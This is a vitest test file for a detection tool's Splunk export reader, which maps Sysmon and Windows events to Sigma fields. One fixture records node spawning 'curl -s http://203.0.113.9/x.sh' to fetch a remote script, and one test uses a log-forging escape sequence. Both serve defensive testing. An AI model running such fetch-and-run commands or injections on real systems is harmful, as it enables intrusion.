/**
 * Splunk search results exported as JSON: "Export → JSON" lines (`{"preview","offset","result"}`)
 * and the REST results document (`{"preview","init_offset","messages","fields","results"}`). The
 * fixtures hold the seed's atomic tests 1, 3 and 4 (test/fixtures/windows/*.sysmon.xml) as a
 * Splunk with the Sysmon add-on exports them: extracted fields (Export), or `_raw` XML (REST).
 */
import { readFileSync } from 'node:fs';
import { Readable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import type { NormalizedEvent } from '../../src/events/event.js';
import { sniffFormat, SNIFF_BYTES } from '../../src/sources/open.js';
import { splunkReader } from '../../src/sources/splunk.js';
import { windowsXmlReader } from '../../src/sources/windows-xml.js';
import { chunked, readWith, withoutSource } from './helpers.js';

const WIN = fileURLToPath(new URL('../fixtures/windows/', import.meta.url));
const EXPORT = 'atomic-1-3-4.splunk-export.json';
const REST = 'atomic-1-3-4.splunk-rest.json';
const text = (name: string) => readFileSync(WIN + name, 'utf8');
const read = (data: string, file = 'splunk.json', sizes = [65_536]) => readWith(splunkReader, chunked(data, sizes), file);

/** The same events as windows-xml reads them from the atomic tests' Sysmon XML. */
async function xmlEvents(): Promise<NormalizedEvent[]> {
  const events: NormalizedEvent[] = [];
  for (const name of ['atomic1-npm-postinstall', 'atomic3-workflow-file', 'atomic4-registry-4873']) {
    events.push(...(await readWith(windowsXmlReader, Readable.from([readFileSync(`${WIN}${name}.sysmon.xml`)]), name)).events);
  }
  return events;
}

const SIGMA_FIELDS = ['EventID', 'Image', 'CommandLine', 'ParentImage', 'ParentCommandLine', 'User', 'TargetFilename', 'DestinationIp', 'DestinationPort', 'DestinationHostname', 'ProcessId', 'Hashes'];
const sigmaView = (events: NormalizedEvent[]) =>
  events.map((e) => ({ category: e.category, product: e.product, service: e.service, host: e.host, user: e.user, fields: Object.fromEntries(SIGMA_FIELDS.map((k) => [k, e.fields[k]])) }));

const LINUX_XML =
  '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version>' +
  '<TimeCreated SystemTime="2022-05-11T18:10:22.003485000Z"/><EventRecordID>245760</EventRecordID><Channel>Linux-Sysmon/Operational</Channel>' +
  '<Computer>UBUNTU5</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2022-05-11 18:10:21.998</Data>' +
  '<Data Name="ProcessId">17790</Data><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl -s http://203.0.113.9/x.sh</Data>' +
  '<Data Name="User">root</Data><Data Name="ParentImage">/usr/bin/node</Data></EventData></Event>';

describe('splunk: sniffing', () => {
  it('knows the Export lines, the REST document (one line or pretty-printed) and bare results', () => {
    expect(sniffFormat(text(EXPORT))?.format).toBe('splunk');
    expect(sniffFormat(text(REST))?.format).toBe('splunk');
    expect(sniffFormat(JSON.stringify(JSON.parse(text(REST)), null, 2))?.format).toBe('splunk');
    const results = (JSON.parse(text(REST)) as { results: unknown[] }).results;
    expect(sniffFormat(JSON.stringify(results, null, 2))?.format).toBe('splunk');
  });

  it('knows an Export whose first result runs past the head', () => {
    const [first, ...rest] = text(EXPORT).split('\n');
    const long = JSON.parse(first!) as { result: Record<string, unknown> };
    long.result.CommandLine = `node -e "${'A'.repeat(SNIFF_BYTES)}"`;
    const head = (JSON.stringify(long) + '\n' + rest.join('\n')).slice(0, SNIFF_BYTES);
    expect(sniffFormat(head)?.format).toBe('splunk');
  });

  it('splits Export lines for a parallel scan, never the REST document', () => {
    expect(splunkReader.splitsInput!(text(EXPORT))).toBe(true);
    expect(splunkReader.splitsInput!(text(REST))).toBe(false);
  });
});

describe('splunk: Export lines with the Sysmon add-on fields', () => {
  it('maps EventCode and the source channel to the Sysmon logsource, _time to the time, keeps every field', async () => {
    const { events, bad } = await read(text(EXPORT), EXPORT, [100, 4096]);
    expect(bad).toEqual([]);
    expect(events.map((e) => [e.source.line, e.category, e.product, e.service])).toEqual([
      [1, 'process_creation', 'windows', 'sysmon'],
      [2, 'process_creation', 'windows', 'sysmon'],
      [3, 'process_creation', 'windows', 'sysmon'],
      [4, 'file_event', 'windows', 'sysmon'],
      [5, 'process_creation', 'windows', 'sysmon'],
      [6, 'file_event', 'windows', 'sysmon'],
      [7, 'network_connection', 'windows', 'sysmon'],
    ]);
    expect(events[0]).toMatchObject({ host: 'DEV-WS-042.corp.example.com', user: 'CORP\\alice', time: Date.UTC(2026, 10, 27, 9, 14, 1, 874) });
    expect(events[0]!.fields).toMatchObject({ EventID: '1', EventCode: '1', Image: 'C:\\Program Files\\nodejs\\node.exe', sourcetype: 'XmlWinEventLog', splunk_server: 'splunk-idx01' });
    // Multivalue fields stay arrays.
    expect(events[0]!.fields.tag).toEqual(['process', 'report', 'execute']);
    expect(events[0]!.fields._si).toEqual(['splunk-idx01', 'sysmon']);
  });

  it('gives the Sigma fields, logsource, host and user that windows-xml gives for the same events', async () => {
    const { events } = await read(text(EXPORT));
    expect(sigmaView(events)).toEqual(sigmaView(await xmlEvents()));
  });

  it('skips lines of search messages, reads the lastrow, reports a broken line and a non-result by line, and goes on', async () => {
    const result = (n: number) => ({ _time: `2026-11-27T09:14:0${n}.000+00:00`, host: 'ws1', sourcetype: 'XmlWinEventLog:Microsoft-Windows-Sysmon/Operational', EventCode: '1', Image: `C:\\n${n}.exe` });
    const lines = [
      JSON.stringify({ preview: false, messages: [{ type: 'INFO', text: 'Your timerange was substituted based on your search string' }] }),
      JSON.stringify({ preview: false, offset: 0, result: result(0) }),
      JSON.stringify({ preview: false, offset: 1, result: result(1) }).slice(0, 80),
      JSON.stringify({ status: 'ok' }),
      JSON.stringify({ preview: false, offset: 2, lastrow: true, result: result(2) }),
    ];
    const { events, bad } = await read(lines.join('\r\n') + '\r\n', 'export.json', [9]);
    expect(bad.map((b) => [b.line, b.reason.replace(/:.*/, '')])).toEqual([
      [3, 'invalid JSON'],
      [4, 'not a Splunk result (no "result" object, _raw, _time or sourcetype)'],
    ]);
    expect(events.map((e) => [e.source.line, e.category, e.host, e.fields.Image, e.time])).toEqual([
      [2, 'process_creation', 'ws1', 'C:\\n0.exe', Date.UTC(2026, 10, 27, 9, 14, 0)],
      [5, 'process_creation', 'ws1', 'C:\\n2.exe', Date.UTC(2026, 10, 27, 9, 14, 2)],
    ]);
  });
});

describe('splunk: search messages in an export', () => {
  const result = (n: number) => ({ _time: `2026-11-27T09:14:0${n}.000+00:00`, host: 'ws1', sourcetype: 'XmlWinEventLog:Microsoft-Windows-Sysmon/Operational', EventCode: '1', Image: `C:\\n${n}.exe` });
  const messages = (...list: Array<{ type: string; text: unknown }>) => JSON.stringify({ preview: false, messages: list });

  it('an ERROR or FATAL message is a bad record with its line and text (the export is incomplete); INFO, DEBUG and WARN ones are skipped', async () => {
    const lines = [
      messages({ type: 'INFO', text: 'Your timerange was substituted based on your search string' }, { type: 'DEBUG', text: 'base lispy: [ AND index::sysmon ]' }),
      JSON.stringify({ preview: false, offset: 0, result: result(0) }),
      messages({ type: 'WARN', text: 'Search results might be incomplete: the search process on the peer idx02 ended prematurely.' }),
      messages({ type: 'ERROR', text: 'Search auto-canceled' }),
      JSON.stringify({ preview: false, offset: 1, result: result(1) }),
      messages({ type: 'INFO', text: 'ok' }, { type: 'FATAL', text: "Error in 'litsearch' command: Your Splunk license expired or you have exceeded your license limit too many times." }),
    ];
    const { events, bad } = await read(lines.join('\n') + '\n', 'export.json', [17]);
    expect(events.map((e) => [e.source.line, e.fields.Image])).toEqual([
      [2, 'C:\\n0.exe'],
      [5, 'C:\\n1.exe'],
    ]);
    expect(bad).toEqual([
      { file: 'export.json', format: 'splunk', line: 4, reason: 'Splunk search message, the export is incomplete: ERROR "Search auto-canceled"' },
      {
        file: 'export.json',
        format: 'splunk',
        line: 6,
        reason: `Splunk search message, the export is incomplete: FATAL "Error in 'litsearch' command: Your Splunk license expired or you have exceeded your license limit too many times."`,
      },
    ]);
  });

  it('the REST results document: an ERROR message among its messages is reported on the line the document starts on, its results read', async () => {
    const doc = JSON.parse(text(REST)) as { messages: unknown[]; results: unknown[] };
    const failed = { ...doc, messages: [{ type: 'INFO', text: 'ok' }, { type: 'ERROR', text: 'Search auto-canceled' }], results: doc.results.slice(0, 2) };
    for (const body of [JSON.stringify(failed), JSON.stringify(failed, null, 2)]) {
      const { events, bad } = await read(body + '\n', 'rest.json', [100]);
      expect(bad).toEqual([{ file: 'rest.json', format: 'splunk', line: 1, reason: 'Splunk search message, the export is incomplete: ERROR "Search auto-canceled"' }]);
      expect(events).toHaveLength(2);
    }
    expect((await read(JSON.stringify({ ...failed, messages: [{ type: 'DEBUG', text: 'x' }] }) + '\n')).bad).toEqual([]);
  });

  it("a message's text is quoted with its control characters escaped, and cut when very long", async () => {
    const text = `Search auto-canceled\n\u001b[2Jforged line ${'x'.repeat(5000)}`;
    const { bad } = await read(messages({ type: 'error', text }, { type: 'ERROR', text: 42 }) + '\n');
    expect(bad).toHaveLength(1);
    const reason = bad[0]!.reason;
    expect(reason).not.toMatch(/[\u0000-\u001f]/);
    expect(reason.startsWith('Splunk search message, the export is incomplete: error "Search auto-canceled\\n\\u001b[2Jforged line xxx')).toBe(true);
    expect(reason.endsWith('…"; ERROR "42"')).toBe(true);
    expect(reason.length).toBeLessThan(1200);
  });
});

describe('splunk: the REST results document with _raw XML', () => {
  it('parses each _raw <Event>: the windows-xml event, with the Splunk fields beside it', async () => {
    const { events, bad } = await read(text(REST), REST, [333]);
    expect(bad).toEqual([]);
    const xml = await xmlEvents();
    expect(events).toHaveLength(xml.length);
    events.forEach((event, i) => {
      const { fields, ...rest } = withoutSource([xml[i]!])[0]!;
      const rendered = Object.keys(fields).filter((k) => k.startsWith('RenderingInfo_')); // Splunk's XmlWinEventLog keeps no rendered message
      expect(withoutSource([event])[0]).toMatchObject(rest);
      expect(event.fields).toMatchObject(Object.fromEntries(Object.entries(fields).filter(([k]) => !rendered.includes(k))));
      expect(event.fields).toMatchObject({ sourcetype: 'XmlWinEventLog', index: 'sysmon' });
      expect(event.source).toEqual({ file: REST, format: 'splunk', line: 1 });
    });
  });

  it('reads every page when REST pages are appended to one file', async () => {
    const doc = JSON.parse(text(REST)) as { results: unknown[] };
    const page = (from: number, to: number) => JSON.stringify({ ...doc, init_offset: from, results: doc.results.slice(from, to) }) + '\n';
    const { events, bad } = await read(page(0, 4) + page(4, 7), 'pages.json', [1000]);
    expect(bad).toEqual([]);
    expect(events.map((e) => [e.source.line, e.category])).toEqual([
      [1, 'process_creation'],
      [1, 'process_creation'],
      [1, 'process_creation'],
      [1, 'file_event'],
      [2, 'process_creation'],
      [2, 'file_event'],
      [2, 'network_connection'],
    ]);
  });

  it('pretty-printed: a broken result is one bad record with its line, offset and index; the others are read', async () => {
    const doc = JSON.parse(text(REST)) as { results: Array<Record<string, unknown>> };
    const pretty = JSON.stringify({ ...doc, results: doc.results.slice(0, 3) }, null, 2);
    const brokenAt = pretty.indexOf('"_bkt": ', pretty.indexOf('"_bkt": ') + 1); // in the second result
    const broken = pretty.slice(0, brokenAt) + '"_bkt" ' + pretty.slice(brokenAt + '"_bkt":'.length); // a missing colon
    const { events, bad } = await read(broken, 'rest.json', [500]);
    const recordStart = broken.lastIndexOf('{', brokenAt);
    expect(bad).toEqual([
      { file: 'rest.json', format: 'splunk', line: broken.slice(0, recordStart).split('\n').length, offset: recordStart, record: 1, reason: expect.stringMatching(/^invalid JSON: /) },
    ]);
    expect(events.map((e) => e.fields.EventRecordID)).toEqual(['48211', '48213']);
  });
});

describe('splunk: other sourcetypes', () => {
  it('sysmon:linux: the _raw XML (after a syslog header) is a Linux Sysmon event', async () => {
    const row = { _time: '2022-05-11T18:10:22.003+00:00', host: 'UBUNTU5', source: '/var/log/syslog', sourcetype: 'sysmon:linux', _raw: `May 11 18:10:22 UBUNTU5 sysmon: ${LINUX_XML}` };
    const { events, bad } = await read(JSON.stringify({ preview: false, offset: 0, result: row }) + '\n');
    expect(bad).toEqual([]);
    expect(events[0]).toMatchObject({ product: 'linux', service: 'sysmon', category: 'process_creation', host: 'UBUNTU5', fields: { Image: '/usr/bin/curl', ParentImage: '/usr/bin/node', sourcetype: 'sysmon:linux' } });
    expect(events[0]!.time).toBe(Date.UTC(2022, 4, 11, 18, 10, 22, 3));
  });

  it('a _raw that is no well-formed XML: the extracted fields make the event; without them it is a bad record', async () => {
    const raw = "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><EventID>1</EventID></Sys></Event>";
    const rows = [
      { _time: '2026-11-27T09:14:02.120+00:00', host: 'ws1', sourcetype: 'XmlWinEventLog:Microsoft-Windows-Sysmon/Operational', _raw: raw, EventCode: '1', Image: 'C:\\x.exe' },
      { _time: '2026-11-27T09:14:03.000+00:00', host: 'ws1', sourcetype: 'XmlWinEventLog:Microsoft-Windows-Sysmon/Operational', _raw: raw },
    ];
    const { events, bad } = await read(rows.map((r) => JSON.stringify({ preview: false, result: r })).join('\n') + '\n');
    expect(events.map((e) => [e.source.line, e.category, e.fields.Image])).toEqual([[1, 'process_creation', 'C:\\x.exe']]);
    expect(bad.map((b) => [b.line, b.reason.replace(/:.*/, '')])).toEqual([[2, 'invalid XML']]);
  });

  it('sysmon:linux fields without _raw, a WinEventLog:Security 4688, and _time in epoch seconds', async () => {
    const rows = [
      { _time: '1652292622.003', host: 'UBUNTU5', sourcetype: 'sysmon:linux', EventID: '1', Image: '/usr/bin/curl', ParentImage: '/usr/bin/node' },
      { _time: 1652292623, host: 'dc01', source: 'WinEventLog:Security', sourcetype: 'WinEventLog', EventCode: ['4688', '4688'], NewProcessName: 'C:\\Windows\\System32\\cmd.exe', ParentProcessName: 'C:\\node.exe', SubjectUserName: 'alice', SubjectDomainName: 'CORP' },
    ];
    const { events, bad } = await read(JSON.stringify(rows));
    expect(bad).toEqual([]);
    expect(events.map((e) => [e.product, e.service, e.category, e.host, e.time, e.fields.Image])).toEqual([
      ['linux', 'sysmon', 'process_creation', 'UBUNTU5', Date.UTC(2022, 4, 11, 18, 10, 22, 3), '/usr/bin/curl'],
      ['windows', 'security', 'process_creation', 'dc01', Date.UTC(2022, 4, 11, 18, 10, 23), 'C:\\Windows\\System32\\cmd.exe'],
    ]);
    expect(events[1]).toMatchObject({ user: 'CORP\\alice', fields: { EventID: '4688', EventCode: ['4688', '4688'], ParentImage: 'C:\\node.exe' } });
  });
});
